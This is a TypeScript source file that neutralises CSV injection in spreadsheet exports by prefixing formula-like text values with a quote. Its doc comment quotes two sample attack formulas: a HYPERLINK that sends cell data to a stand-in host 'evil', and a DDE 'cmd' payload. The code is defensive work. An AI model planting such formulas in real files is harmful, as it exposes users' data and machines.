/**
 * What spreadsheet software takes for the start of a formula: `=`, `+`, `-`, `@`, and TAB or
 * CR (which some strip before looking at the rest).
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A value a spreadsheet reads as a number, not a formula, even though it starts with + or -. */
const SPREADSHEET_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

/**
 * Defuses CSV injection: a text value that a spreadsheet would run as a formula when someone
 * opens the file (`=HYPERLINK("http://evil/?"&A1, "click")`, `=cmd|' /C calc'!A0`) gets a
 * leading `'`, which Excel and LibreOffice read as "this is text". Plain numbers such as
 * `-12.5` or `+3` are left alone: spreadsheets read them as numbers.
 *
 * @example
 *   neutraliseFormula('=1+2') // "'=1+2"
 *   neutraliseFormula('-12.5') // '-12.5'
 */
export function neutraliseFormula(value: string): string {
  // The first character's code first: this runs for every text value of an export.
  const first = value.charCodeAt(0);
  if (first > 64 || (first !== 61 && first !== 43 && first !== 45 && first !== 64 && first !== 9 && first !== 13)) {
    return value;
  }
  return FORMULA_START.test(value) && !SPREADSHEET_NUMBER.test(value) ? `'${value}` : value;
}
